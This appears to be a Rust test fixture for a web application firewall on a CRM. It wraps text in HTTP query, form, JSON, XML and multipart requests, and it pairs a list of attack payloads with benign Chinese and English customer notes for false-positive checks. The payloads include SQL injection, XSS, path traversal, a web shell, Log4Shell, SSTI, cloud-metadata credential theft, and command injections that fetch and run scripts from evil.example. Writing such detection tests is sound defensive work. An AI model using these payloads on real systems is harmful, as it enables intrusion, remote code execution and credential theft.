//! Requests of an SCRM: how a text travels, what attackers send and what people write.

pub const AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36";

pub fn request(method: &str, target: &str, headers: &str, body: &str) -> Vec<u8> {
    let length = if method == "GET" {
        String::new()
    } else {
        format!("Content-Length: {}\r\n", body.len())
    };
    format!(
        "{method} {target} HTTP/1.1\r\nHost: scrm.example.com\r\nUser-Agent: {AGENT}\r\nAccept: application/json, text/html;q=0.9\r\n\
         Accept-Language: zh-CN,zh;q=0.9\r\nCookie: sid=3f9a1c7be2d84d0f9a61b7c2; theme=dark\r\n{headers}{length}\r\n{body}"
    )
    .into_bytes()
}

pub fn encode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b' ' => "+".to_owned(),
            b if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) => (b as char).to_string(),
            b => format!("%{b:02X}"),
        })
        .collect()
}

pub fn get(value: &str) -> Vec<u8> {
    request(
        "GET",
        &format!("/api/v1/customers?q={}&page=1", encode(value)),
        "",
        "",
    )
}

pub fn form(value: &str) -> Vec<u8> {
    let body = format!("id=c-1029&note={}", encode(value));
    request(
        "POST",
        "/crm/save",
        "Content-Type: application/x-www-form-urlencoded\r\n",
        &body,
    )
}

pub fn json(value: &str) -> Vec<u8> {
    let body = serde_json::json!({ "customer_id": "c-1029", "tags": ["vip"], "note": { "text": value, "at": "2026-07-01T10:00:00+08:00" } });
    request(
        "POST",
        "/api/v1/notes",
        "Content-Type: application/json\r\n",
        &body.to_string(),
    )
}

pub fn xml(value: &str) -> Vec<u8> {
    let text = value.replace('&', "&amp;").replace('<', "&lt;");
    let body =
        format!("<?xml version=\"1.0\" encoding=\"utf-8\"?><note><text>{text}</text></note>");
    request(
        "POST",
        "/callback/wecom",
        "Content-Type: text/xml\r\n",
        &body,
    )
}

pub fn multipart(value: &str) -> Vec<u8> {
    let body = format!(
        "--xyz\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{value}\r\n--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"合同.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 x\r\n--xyz--\r\n"
    );
    request(
        "POST",
        "/api/v1/files",
        "Content-Type: multipart/form-data; boundary=xyz\r\n",
        &body,
    )
}

pub const ATTACKS: &[&str] = &[
    "1' or '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "1'; DROP TABLE customers; --",
    "x' AND SLEEP(5) AND 'a'='a",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.domain)//<svg onload=alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x.sh | sh)",
    "`wget http://evil.example/x -O /tmp/x`",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>",
    "O:8:\"Customer\":1:{s:4:\"name\";s:1:\"x\";}",
    // A serialised Java object in base64 is left to paranoia 2 by CRS; its class names are not.
    "java.lang.Runtime.getRuntime().exec('id')",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "() { :; }; /bin/bash -c 'id'",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if",
];

pub const ORDINARY: &[&str] = &[
    "张伟",
    "欧阳娜娜",
    "买买提·吐尔逊",
    "O'Brien",
    "D'Angelo & Söhne GmbH",
    "北京市海淀区中关村大街1号院3号楼2单元501室",
    "上海市浦东新区世纪大道100号环球金融中心15层(靠电梯)",
    "客户说下周二下午3点可以来签合同,要带公章和营业执照复印件。",
    "您好!请问这款产品还有货吗?什么时候能发货?谢谢~",
    "微信:zhangwei_2026,手机:13800000000,邮箱:zhang.wei@example.com",
    "报价:单价¥1,280.00/台,数量50,合计¥64,000.00(含13%增值税)",
    "已联系三次:周一未接;周三说在开会;周五同意试用。",
    "customer asked about delivery of the second batch next week and wants a discount for the annual plan",
    "Please select the best option from our catalogue and let me know where we can meet",
    "He said: \"I'll call back tomorrow\" - not sure whether he will",
    "Order #20260701-0032 / invoice no. 8812-A",
    "满意度5分👍 服务很好😊",
    "退货原因:尺码不对(应为L码,发成了M码)。",
    "2026-07-01 至 2026-07-31",
    "https://www.example.com/products/list?category=shoes&page=2",
    "跟进记录\n1. 介绍产品\n2. 发送报价单\n3. 等待对方采购审批",
    "意向A级|预算10-20万|决策人:王总",
    "If the price is more than 5000, then 10% off; otherwise 5% off.",
    "群发内容:【双11预热】老客户专享,满300减50,回T退订",
    "<p>尊敬的客户,您好:</p><p>附件是<strong>报价单</strong>,请查收。</p><ul><li>有效期30天</li></ul>",
    "<p>详情见 <a href=\"https://www.example.com/a\">产品页</a><br></p>",
    "身份证已核验,尾号1234;银行卡尾号8888",
    "Room 5B, Tower 2 (near the union square station)",
    "C++/Java 工程师,5年经验,base 深圳",
    "合同编号:HT-2026-0701;甲方:北京某某科技有限公司;乙方:上海某某信息技术有限公司",
];

pub type Carrier = (&'static str, fn(&str) -> Vec<u8>);
pub const CARRIERS: [Carrier; 5] = [
    ("query", get),
    ("form", form),
    ("json", json),
    ("xml", xml),
    ("multipart", multipart),
];
